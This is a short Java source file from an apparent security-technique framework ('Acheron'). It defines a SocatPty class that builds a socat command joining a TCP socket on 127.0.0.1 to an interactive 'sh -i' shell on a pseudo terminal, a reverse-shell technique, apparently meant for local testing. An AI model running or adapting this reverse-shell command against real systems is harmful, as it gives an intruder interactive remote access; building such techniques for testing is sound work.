/*
 * SPDX-License-Identifier: Apache-2.0
 * Copyright The Acheron Authors
 */
package io.acheron.local.technique;

import java.util.List;

/** A full terminal over the network: socat holds socket and master side, the shell has a session of its own. */
public final class SocatPty extends ReverseShell {
    /** Made by the service loader. */
    public SocatPty() {
        super(
                "socat-pty",
                "socat joins a socket to a shell on a pseudo terminal in a session of its own",
                List.of(List.of("socat")));
    }

    @Override
    List<String> command(Stage stage, int port) throws TechniqueFailedException {
        return List.of(stage.tool("socat"), "TCP:127.0.0.1:" + port, "EXEC:sh -i,pty,stderr,setsid,sigint,sane,ctty");
    }
}
